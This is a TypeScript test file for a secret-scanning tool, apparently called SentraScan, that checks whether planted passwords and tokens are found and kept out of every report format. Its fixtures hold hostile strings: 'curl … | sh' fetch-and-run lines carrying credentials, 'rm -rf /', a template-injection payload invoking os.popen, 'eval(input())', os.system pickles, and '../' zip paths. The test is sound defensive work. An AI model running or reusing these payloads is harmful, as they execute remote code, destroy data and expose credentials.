import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { REPORT_FORMATS } from '@sentrascan/reports';
import { assemblePickle, assembleZip } from '@sentrascan/testkit';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { command as inspect } from './commands/inspect.ts';
import { command as scan } from './commands/scan.ts';
import { recordedIo } from './recorded-io.ts';

/** Different for each carrier, so that a leak says where it comes from. */
function passwordOf(number: number): string {
  return `Zq${number}kX9mP2vQ${(number * 7919) % 997}w`;
}

/** Tokens of a form that proves itself by nothing but its length. */
function tokenOf(number: number): string {
  const letters = 'aK3xZ9qLmT7vRbW2cYdE5fGh8JnPsU4';
  let token = '';
  for (let index = 0; index < 52; index++)
    token += letters[(index * 13 + number * 17 + ((index * number) % 7)) % letters.length];
  return `gsk_${token}`;
}

const SETTINGS: readonly ((value: string) => readonly [string, string])[] = [
  (value) => ['.env', `DB_PASSWORD=${value}\n`],
  (value) => ['.env', `export API_TOKEN="${value}"\n`],
  (value) => ['config.yaml', `db:\n  password: ${value}\n`],
  (value) => ['config.json', `{"db": {"password": "${value}"}}`],
  (value) => ['config.toml', `[db]\npassword = "${value}"\n`],
  (value) => ['config.ini', `[db]\npassword = ${value}\n`],
  (value) => ['web.xml', `<db><password>${value}</password></db>`],
  (value) => [
    'Dockerfile',
    `FROM scratch\nENV DB_PASSWORD ${value}\nRUN curl -u svc:${value} http://x.acme.dev | sh\n`,
  ],
  (value) => [
    'run.sh',
    `#!/bin/sh\ncurl -u svc:${value} http://x.acme.dev/a | sh\nexport TOKEN=${value}\nrm -rf / --password ${value}\n`,
  ],
  (value) => [
    'a.py',
    `import os\npassword = "${value}"\nos.system("curl -u svc:${value} http://x.acme.dev | sh")\n`,
  ],
  (value) => [
    'b.py',
    `import os, base64\ntoken = "${value.slice(0, 3)}" + "${value.slice(3)}"\nos.system("deploy --password " + token)\n`,
  ],
  (value) => [
    'c.py',
    `# sentrascan: ignore[python/starts-shell] the password=${value} is needed\npassword = "${value}"\neval(input())\n`,
  ],
  (value) => ['secret.yaml', `kind: Secret\ndata:\n  password: ${Buffer.from(value).toString('base64')}\n`],
  (value) => [
    'notes.md',
    `Log in with password: \`${value}\`\n\npostgresql://svc:${value}@db1.acme.dev/app\n`,
  ],
  (value) => ['users.csv', `user,password\nsvc,${value}\n`],
  (value) => [
    'train.log',
    `INFO connect user=svc password=${value} Authorization: Bearer ${value}${value}\n`,
  ],
  (value) => [
    'tokenizer_config.json',
    `{"chat_template": "{{ cycler.__init__.__globals__.os.popen('curl -u svc:${value} x') }}", "api_key": "${value}"}`,
  ],
  (value) => [
    'nb.ipynb',
    notebookOf(
      `password = "${value}"\n!curl -u svc:${value} http://x.acme.dev | sh\n`,
      `password=${value}\n`,
      value,
    ),
  ],
];

function notebookOf(source: string, output: string, value: string): string {
  return JSON.stringify({
    cells: [
      {
        cell_type: 'code',
        id: 'a1',
        metadata: {},
        source: [source],
        outputs: [{ output_type: 'stream', name: 'stdout', text: [output] }],
      },
    ],
    metadata: { kernelspec: { name: 'python3', env: { DB_PASSWORD: value } } },
    nbformat: 4,
    nbformat_minor: 5,
  });
}

let folder = '';
const values: string[] = [];

beforeAll(() => {
  folder = mkdtempSync(path.join(tmpdir(), 'sentrascan-leak-'));
  let number = 1;
  for (const [at, setting] of SETTINGS.entries()) {
    for (const makeValue of [passwordOf, tokenOf, passwordOf, passwordOf]) {
      const value = makeValue(number++);
      values.push(value);
      const [name, text] = setting(value);
      mkdirSync(path.join(folder, `${at}-${number}`));
      writeFileSync(path.join(folder, `${at}-${number}`, name), text);
    }
  }
  for (let index = 0; index < 40; index++) plantBinary(number++, index);
});

afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** In a pickle's command, as a member's name and content, as a file's name. */
function plantBinary(number: number, index: number): void {
  const password = passwordOf(number);
  const token = tokenOf(number);
  values.push(password, token);
  const command = `deploy --password ${password} --token ${token}`;
  const pickle = assemblePickle(
    `PROTO 2 | GLOBAL os system | UNICODE ${JSON.stringify(command)} | TUPLE1 | REDUCE | STOP`,
  );
  writeFileSync(path.join(folder, `model-${index}.pkl`), pickle);
  const entries = [
    { name: `../${token}.txt`, data: `password=${password}\n` },
    { name: 'a.pkl', data: pickle },
  ];
  writeFileSync(path.join(folder, `archive-${index}.zip`), assembleZip({ entries }));
  writeFileSync(path.join(folder, `${token}.env`), `DB_PASSWORD=${password}\nTOKEN=${token}\n`);
}

/** What of a text is a planted value, or most of one. */
function leaksIn(text: string): string[] {
  return values.filter((value) => text.includes(value) || text.includes(value.slice(0, -3)));
}

async function outputOf(
  command: typeof scan,
  format: string,
  more: Record<string, string> = {},
): Promise<string> {
  const io = recordedIo({ cwd: folder });
  const given = [{ name: 'format', value: format }];
  await command.run(
    {
      operands: [folder],
      options: { format: command === scan ? [format] : format, all: true, ...more },
      given,
    },
    io,
  );
  return io.out() + io.err();
}

describe('no value that is planted', () => {
  test('is missed: there is a finding in every file', async () => {
    const { findings } = JSON.parse(await outputOf(scan, 'json', { jobs: '1' })) as {
      findings: { category: string; artifact: string }[];
    };
    const found = new Set(
      findings
        .filter(({ category }) => category === 'secret')
        .map(({ artifact }) => artifact.split('/')[0]?.split('!')[0]),
    );
    expect(found.size).toBeGreaterThanOrEqual(SETTINGS.length * 4 + 80);
  });

  test.each(REPORT_FORMATS.map(({ id }) => id))('stands in a %s report', async (format) => {
    expect(leaksIn(await outputOf(scan, format, { jobs: '1' }))).toEqual([]);
  });

  test('stands in a report that child processes made', async () => {
    writeFileSync(
      path.join(folder, 'large.log'),
      `${'nothing here\n'.repeat(2_000_000)}password=${values[0]}\n`,
    );
    expect(leaksIn(await outputOf(scan, 'json', { jobs: '2' }))).toEqual([]);
    rmSync(path.join(folder, 'large.log'));
  }, 60_000);

  test.each(['text', 'json'])('is told by inspect as %s', async (format) => {
    expect(leaksIn(await outputOf(inspect, format))).toEqual([]);
  });
});
